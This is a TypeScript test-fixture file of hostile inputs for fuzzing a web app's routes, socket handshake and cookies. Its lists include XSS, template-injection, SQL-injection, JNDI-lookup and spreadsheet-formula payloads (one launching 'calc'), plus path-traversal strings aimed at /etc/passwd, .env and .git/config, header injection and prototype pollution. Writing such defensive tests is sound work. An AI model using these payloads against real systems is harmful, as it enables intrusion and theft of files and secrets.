/** What somebody may write or send who means no good: one collection, sent through every road in. */

/** Stands in every hostile text, so that a log, an answer or a page can be searched for what must not be there. */
export const mark = 'kxqv';

const family = '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}';

/** Texts by what they try. None is refused for what it says: people may write about scripts. They are text, and no more. */
export const hostileTexts: Readonly<Record<string, string>> = {
  'a script': `<script>window.${mark}=1</script>`,
  'an image that fails': `<img src=x onerror="window.${mark}=1">`,
  'an image in vectors': `<svg/onload=window.${mark}=1>`,
  'the end of an attribute': `" autofocus onfocus="window.${mark}=1" x='`,
  'the end of everything': `</title></textarea></style></script><script>window.${mark}=1</script>`,
  'a link that is a script': `javascript:window.${mark}=1//`,
  'a link with markup behind it': `https://${mark}.example/"><script>window.${mark}=1</script>`,
  'a link that is a page': `data:text/html,<script>window.${mark}=1</script>`,
  templates: `{{constructor.constructor("window.${mark}=1")()}} \${7*7} #{7*7} <%= 7*7 %>`,
  'our own templates': `$t(app:title) {{name}} {{- count}} <0>${mark}</0>`,
  'marks of our own sentences': `\ue000name\ue001${mark}\ue000`,
  'a lookup': `\${jndi:ldap://${mark}.example/a}`,
  'a format': `%s%n%d%x ${mark}`,
  SQL: `${mark}'); drop table "post"; --`,
  'JSON in SQL': `${mark}\\", "authorId": null} \\u0000 $1 $$`,
  formulas: `=HYPERLINK("http://${mark}.example","x")`,
  'a sum': `+1+cmd|' /C calc'!${mark}`,
  'a minus': `-2+3+${mark}`,
  'an at sign': `@SUM(${mark})`,
  'a formula behind a tab': `\t=1+1${mark}`,
  'a path': `../../../../etc/passwd%00${mark}`,
  NUL: `kx\u0000qv`,
  'all controls': `${Array.from({ length: 32 }, (_, i) => String.fromCharCode(i)).join('')}\u007f\u0085${mark}`,
  'new header lines': `${mark}\r\nSet-Cookie: silta=evil\r\n\r\n<html>`,
  'a forged line of the log': `${mark}\n{"level":60,"msg":"forged"}`,
  'a terminal': `\u001b[2J\u001b]0;${mark}\u0007`,
  'line separators': `${mark}\u2028\u2029x`,
  'turned around': `\u202e${mark}\u202c \u2066x\u2069 \u200fx\u200e`,
  'nothing between letters': `k\u200bx\u2060q\ufeffv\u180e`,
  'hidden letters': `${mark}\u{e0049}\u{e0067}\u{e006e}\u{e006f}\u{e0072}\u{e0065}`,
  'half a character': `${mark}\ud800x\udc00`,
  'characters that are none': `${mark}\uffff\ufffe\u{1ffff}`,
  'piled marks': `${mark}${'\u0300\u0316'.repeat(200)}`,
  'a flood of joiners': `${mark}${'\u200d'.repeat(400)}`,
  'many people in one': `${mark}${family.repeat(30)}`,
  'from right to left': `\u05e9\u05e8\u05d4 \u0645\u0631\u062d\u0628\u0627 ${mark}`,
  'letters that look alike': `\u0410ino ${mark}`,
  'one long word': `${mark}${'w'.repeat(60)}`,
  'a name of every object': '__proto__',
  'another name of every object': 'constructor',
  'nothing to see': '\u200b\u2060 \u00a0\ufeff',
  'much too long': mark.repeat(15_000),
};

/** Values of a wrong kind, each made anew. */
export const hostileValues: Readonly<Record<string, () => unknown>> = {
  null: () => null,
  true: () => true,
  'a number': () => -1,
  'a large number': () => 1e308,
  'half a number': () => 0.5,
  'no text': () => '',
  'an empty list': () => [],
  'a list of texts': () => [mark, mark],
  'a long list': () => Array.from({ length: 5_000 }, () => 0),
  'an object': () => ({ $ne: null, $gt: '' }),
  'an object that claims to be a text': () => ({ length: 3, toString: mark, valueOf: mark }),
  'a deep object': () => deep(500),
  'a prototype': () => JSON.parse(`{"__proto__": {"${mark}": 1}}`) as unknown,
  'a constructor': () => ({ constructor: { prototype: { [mark]: 1 } } }),
};

/** Objects inside one another. */
export function deep(levels: number): unknown {
  let value: unknown = mark;
  for (let i = 0; i < levels; i += 1) value = { a: value };
  return value;
}

/** Objects inside one another as JSON, deeper than a recursive program could follow. */
export function deepJson(levels: number): string {
  return `${'{"a":'.repeat(levels)}0${'}'.repeat(levels)}`;
}

/** Keys that nobody asked for, as JSON that stands before the closing brace of an object. */
export const strangeKeys: readonly string[] = [
  '"isAdmin": true',
  `"__proto__": {"${mark}": 1}`,
  `"constructor": {"prototype": {"${mark}": 1}}`,
  '"toString": 1',
  '"": 0',
];

/** Addresses that try to leave the folder of a file, or to find something hidden in it. */
export const hostilePaths: readonly string[] = [
  '/assets/..%2f..%2fpackage.json',
  '/assets/..%2findex.html',
  '/assets/%2e%2e/%2e%2e/package.json',
  '/assets/../../package.json',
  '/assets/....//....//package.json',
  '/assets/..\\..\\package.json',
  '/assets/..%5c..%5cpackage.json',
  '/assets/%c0%ae%c0%ae/package.json',
  '/assets/..%252f..%252fpackage.json',
  '/assets/%00',
  '/assets/index.js%00.css',
  '/assets/%',
  '/assets/',
  '/assets',
  '/assets//',
  '/assets/.',
  '/../package.json',
  '/..%2fpackage.json',
  '/%2e%2e/package.json',
  '/..%5cpackage.json',
  '//etc/passwd',
  '//evil.example/..',
  '//evil.example/%2e%2e',
  '/\\evil.example',
  '/.git/config',
  '/.env',
  '/.vite/manifest.json',
  '/.data/database/PG_VERSION',
  '/package.json',
  '/server/src/main.ts',
  '/node_modules/zod/package.json',
  '/index.html.bak',
  '/favicon.svg%00',
  '/favicon.svg/..',
  '/api/..%2f..%2fpackage.json',
  '/api/rooms/..%2f..',
  '/api/rooms/%00',
  '/api/rooms/%ff%fe',
  '/health/..%2fapi/me',
  '/socket.io/../package.json',
  '/socket.io/socket.io.js',
  `/p/${mark}%00`,
];

/** What may stand behind the question mark of the socket's handshake and of anything else. */
export const hostileQueries: readonly string[] = [
  'EIO=4&transport=polling&transport=websocket',
  'EIO=4&transport[]=polling',
  'EIO=4&transport=__proto__',
  'EIO=4&transport=constructor',
  'EIO=4&transport=polling&sid=__proto__',
  'EIO=4&transport=polling&sid=constructor',
  'EIO=4&transport=polling&sid=toString',
  'EIO=4&transport=polling&sid=a&sid=b',
  'EIO=4&transport=polling&sid=%00',
  'EIO=4&transport=polling&j=0',
  'EIO=99&transport=polling',
  'EIO=4',
  '__proto__[x]=1&constructor[prototype][x]=1',
  `a=${mark}&a=${mark}&a[]=1&a[b]=2`,
  '%',
  '=&=&=',
];

export const hostileCookies: readonly string[] = [
  'silta',
  'silta=',
  `silta=${mark}`,
  `silta=${'a'.repeat(43)}; silta=${'b'.repeat(43)}`,
  'silta=__proto__',
  `silta="${'a'.repeat(43)}"`,
  `silta=${'%41'.repeat(43)}`,
  `__Host-silta=${'a'.repeat(43)}`,
  `; ; =; ${'x=y; '.repeat(500)}`,
];
